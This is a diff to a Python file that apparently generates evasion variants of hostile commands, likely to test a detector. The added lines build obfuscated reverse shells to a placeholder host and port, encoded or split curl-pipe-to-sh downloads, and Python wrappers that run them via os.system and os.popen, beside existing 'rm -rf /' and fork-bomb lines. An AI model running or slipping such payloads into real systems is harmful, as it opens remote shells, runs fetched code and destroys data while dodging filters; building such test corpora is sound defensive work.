@@ -501,6 +501,10 @@ def evasions_sh(h, p, u):
         f'nohup sh -c "{dl}" >/dev/null 2>&1 &',
         f'R=rm; $R -rf /',
         f'b(){{ b|b& }};b',
+        f"echo '{dl}' | sh",
+        f'${{PATH:0:1}}bin${{PATH:0:1}}bash -i >& ${{PATH:0:1}}dev${{PATH:0:1}}tcp${{PATH:0:1}}{h}${{PATH:0:1}}{p} 0>&1',
+        f"echo '{codecs.encode(dl, 'rot13')}' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh",
+        f'a=cu; b=rl; $a$b -s {u} | s$(echo h)',
     ]
 
 for v in range(3):
@@ -746,6 +750,8 @@ def wrapper_evasions(h, p, u):
         f'import os\n\ndef inner(x):\n    os.system(x)\n\ndef outer(y):\n    inner(y)\n\nouter("{rs}")',
         f'import base64\n\ndef unpack(p):\n    return base64.b64decode(p)\n\nexec(unpack("{b64("import os; os.system(" + repr(dl) + ")")}"))',
         f'import subprocess as s\nP = s.Popen\nP("{dl}", shell=True)',
+        f'import os\nCMDS = {{"update": "{dl}", "list": "ls"}}\nos.system(CMDS["update"])',
+        f'import os\nsteps = {{"a": "{rs}"}}\nfor k in ["a"]:\n    pass\nos.popen(steps.get("a"))',
         f'import os\n\nclass Updater:\n    def fetch(self, cmd):\n        return os.popen(cmd).read()\n\nUpdater().fetch("{dl}")',
         f'import subprocess\n\nclass Job:\n    def __init__(self, cmd):\n        self.start(cmd)\n\n    def start(self, cmd):\n        subprocess.Popen(cmd, shell=True)\n\nJob("{rs}")',
     ]
